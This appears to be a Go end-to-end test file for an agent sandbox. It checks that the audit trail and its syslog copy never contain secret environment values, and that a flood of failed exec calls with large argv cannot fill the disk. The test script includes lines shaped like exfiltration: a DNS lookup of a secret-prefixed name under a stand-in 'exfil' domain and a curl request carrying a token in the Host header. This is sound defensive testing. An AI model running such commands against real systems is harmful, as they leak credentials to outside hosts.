//go:build linux

// End-to-end tests of issue 10, class 8 (part two): the trail carries no
// secret values and cannot be used to fill the host's disk.
package tests

import (
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// syslogCapture listens on a unixgram socket and keeps every datagram.
type syslogCapture struct {
	path string
	mu   sync.Mutex
	msgs []string
}

func newSyslogCapture(t *testing.T) *syslogCapture {
	t.Helper()
	s := &syslogCapture{path: filepath.Join(auditDir(t), "log.sock")}
	pc, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: s.path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(s.path, 0o777)
	pc.SetReadBuffer(8 << 20)
	go func() {
		buf := make([]byte, 1<<20)
		for {
			n, err := pc.Read(buf)
			if err != nil {
				return
			}
			s.mu.Lock()
			s.msgs = append(s.msgs, string(buf[:n]))
			s.mu.Unlock()
		}
	}()
	t.Cleanup(func() { pc.Close() })
	return s
}

func (s *syslogCapture) all() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.msgs, "\n")
}

// The values of --setenv and --env variables never reach the trail or its
// syslog copy, wherever the agent puts them (argv, an exec'd path, its cwd,
// a DNS name, an HTTP Host, a guard-rail refusal), nor --dry-run's output;
// their names do.
func TestTrailNoEnvValues(t *testing.T) {
	const setVal = "S3t-Value-of-SECRET_SET-91q"
	const passVal = "P4ss-Value-of-PASSED-37z"
	values := []string{setVal, passVal, strings.ToLower(setVal), strings.ToLower(passVal)}
	home := auditDir(t)
	env := []string{"HOME=" + home, "XDG_STATE_HOME=" + filepath.Join(home, "state"), "PASSED_TOKEN=" + passVal}
	flags := []string{"--setenv", "SECRET_SET=" + setVal, "--env", "PASSED_TOKEN",
		"--allow-domain", netAPI, "--add-host", netAPI + ":127.0.0.1", "--block-command", "blocked-cmd"}

	// --dry-run prints names only.
	r := run(t, runOpts{env: env}, append(append([]string{"--dry-run"}, flags...), "--", "/bin/true")...)
	mustCode(t, r, 0)
	for _, v := range values {
		if strings.Contains(r.stdout+r.stderr, v) {
			t.Errorf("--dry-run printed the value %q:\n%s", v, r.stdout)
		}
	}
	if !strings.Contains(r.stdout, "SECRET_SET") || !strings.Contains(r.stdout, "PASSED_TOKEN") {
		t.Errorf("--dry-run does not list the variables by name:\n%s", r.stdout)
	}

	syslog := newSyslogCapture(t)
	trail := filepath.Join(auditDir(t), "env.jsonl")
	script := `/bin/echo "$SECRET_SET" "x$PASSED_TOKEN"
mkdir -p "$PWD/d-$SECRET_SET" && cd "$PWD/d-$SECRET_SET" && /bin/true in-cwd && cd ..
cp /bin/true "./bin-$PASSED_TOKEN" && "./bin-$PASSED_TOKEN"
b=blocked; /bin/echo "$b-cmd" "$SECRET_SET"
getent hosts "$SECRET_SET.exfil.jailtest.example"
/usr/bin/curl -sS --noproxy '*' --max-time 5 -H "Host: $PASSED_TOKEN.example" http://` + netAPI + `:9/
exit 0`
	args := append(append([]string{}, flags...), "--audit", trail, "--audit-syslog", "--", "/bin/sh", "-c", script)
	r = runLaunched(t, nsLaunch{Syslog: syslog.path}, runOpts{env: env}, args...)
	mustCode(t, r, 0)
	evs := auditLoad(t, trail)
	data := string(mustRead(t, trail))
	// Control: every way the agent used a value did produce an event.
	for _, want := range []string{`"type":"exec"`, `"layer":"guard-rail"`, `"type":"dns"`, `"type":"net"`, `"in-cwd"`} {
		if !strings.Contains(data, want) {
			t.Errorf("control: the trail has no %s; the test proves nothing:\n%s", want, auditDump(evs))
		}
	}
	deadline := time.Now().Add(5 * time.Second)
	for !strings.Contains(syslog.all(), `"type":"exit"`) && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	logged := syslog.all()
	if !strings.Contains(logged, `"type":"start"`) || !strings.Contains(logged, `"type":"exit"`) {
		t.Fatalf("control: the syslog copy was not captured (%d bytes); stderr:\n%s", len(logged), r.stderr)
	}
	for _, v := range values {
		if strings.Contains(data, v) {
			for _, e := range evs {
				if strings.Contains(string(e.Raw), v) {
					t.Errorf("ATTACK WORKED: the value %q is in the trail: %.400s", v, e.Raw)
				}
			}
		}
		if strings.Contains(logged, v) {
			t.Errorf("ATTACK WORKED: the value %q is in the syslog copy", v)
		}
	}
	start := string(evs[0].Raw)
	for _, name := range []string{"SECRET_SET", "PASSED_TOKEN"} {
		if !strings.Contains(start, name) {
			t.Errorf("the start event does not name %s: %.600s", name, start)
		}
	}
	if !strings.Contains(data, "[redacted $SECRET_SET]") {
		t.Errorf("the exec events do not show where the value was redacted:\n%s", auditDump(auditOf(evs, "exec")))
	}
}

// failedExecs makes n execve calls of a file that does not exist, each with
// an argv of args arguments of size bytes (not UTF-8, the costliest bytes to
// record), without forking: the cheapest way for an agent to make jail write.
const failedExecs = `import os,sys
n,args,size=int(sys.argv[1]),int(sys.argv[2]),int(sys.argv[3])
argv=[bytes([0xff])*size for _ in range(args)]
for i in range(n):
    try: os.execv(b"/nonexistent/x%d"%i, [b"x%d"%i]+argv)
    except OSError: pass
print("done",n)
`

// trailSize returns the trail's size and its lines.
func trailSize(t *testing.T, path string) (int64, []auditEvent) {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Size(), auditLoad(t, path)
}

// The trail cannot be used to fill the host's disk: argv is stored bounded
// (with a marker and the hash of the whole argv), and past the run's size
// budget events are counted, never written, never silently lost.
func TestTrailBudget(t *testing.T) {
	home := auditDir(t)
	env := []string{"HOME=" + home, "XDG_STATE_HOME=" + filepath.Join(home, "state")}

	t.Run("60 failed execs with 512 KiB argv", func(t *testing.T) {
		trail := filepath.Join(auditDir(t), "argv.jsonl")
		start := time.Now()
		r := run(t, runOpts{env: env, timeout: 120 * time.Second}, "--audit", trail, "--", "/usr/bin/python3", "-c", failedExecs, "60", "4", "131000")
		mustCode(t, r, 0)
		size, evs := trailSize(t, trail)
		t.Logf("60 execs of 512 KiB argv: %d bytes of trail in %v", size, time.Since(start).Round(time.Millisecond))
		if size > 4<<20 {
			t.Errorf("ATTACK WORKED: 60 execs wrote %d MiB of trail", size>>20)
		}
		var execs []auditEvent
		for _, e := range auditOf(evs, "exec") {
			if strings.HasPrefix(e.str("path"), "/nonexistent/") {
				execs = append(execs, e)
			}
		}
		if len(execs) != 60 {
			t.Fatalf("%d of 60 failed execs recorded", len(execs))
		}
		e := execs[0]
		if !e.has("argv_sha256") || e.num("argc") != 5 || e.num("argv_bytes") < 4*131000 {
			t.Errorf("a bounded argv must carry argc, argv_bytes and argv_sha256 of the whole argv: %.600s", e.Raw)
		}
		if !strings.Contains(string(e.Raw), "bytes]") {
			t.Errorf("a cut argument carries no marker: %.600s", e.Raw)
		}
	})

	t.Run("flood past --audit-max-size", func(t *testing.T) {
		trail := filepath.Join(auditDir(t), "flood.jsonl")
		const n = 3000
		r := run(t, runOpts{env: env, timeout: 120 * time.Second}, "--audit", trail, "--audit-max-size", "1M",
			"--", "/usr/bin/python3", "-c", failedExecs, strconv.Itoa(n), "2", "8000")
		mustCode(t, r, 0)
		size, evs := trailSize(t, trail)
		if size > 1<<20 {
			t.Errorf("ATTACK WORKED: the trail is %d bytes, over its 1 MiB budget", size)
		}
		recorded := 0
		for _, e := range auditOf(evs, "exec") {
			if strings.HasPrefix(e.str("path"), "/nonexistent/") {
				recorded++
			}
		}
		var counted float64
		var budget []auditEvent
		for _, d := range auditOf(evs, "dropped") {
			if d.str("sink") == "" {
				counted += d.obj("types")["exec"].(float64)
			}
			if d.str("reason") == "budget" {
				budget = append(budget, d)
			}
		}
		t.Logf("%d execs: %d recorded, %v counted in dropped events, trail %d bytes", n, recorded, counted, size)
		if len(budget) == 0 {
			t.Fatalf("no dropped event with reason budget:\n%s", auditDump(auditOf(evs, "dropped")))
		}
		if recorded+int(counted) < n {
			t.Errorf("events lost silently: %d recorded + %v counted < %d execs", recorded, counted, n)
		}
		exit := auditOf(evs, "exit")[0]
		if exit.num("trail_dropped") < counted {
			t.Errorf("the exit event does not say how many events were not written: %s", exit.Raw)
		}
		s := auditCLI(t, trail)
		if !strings.Contains(s.stdout, "size budget") {
			t.Errorf("jail audit does not show the budget was reached:\n%s", s.stdout)
		}
	})
}
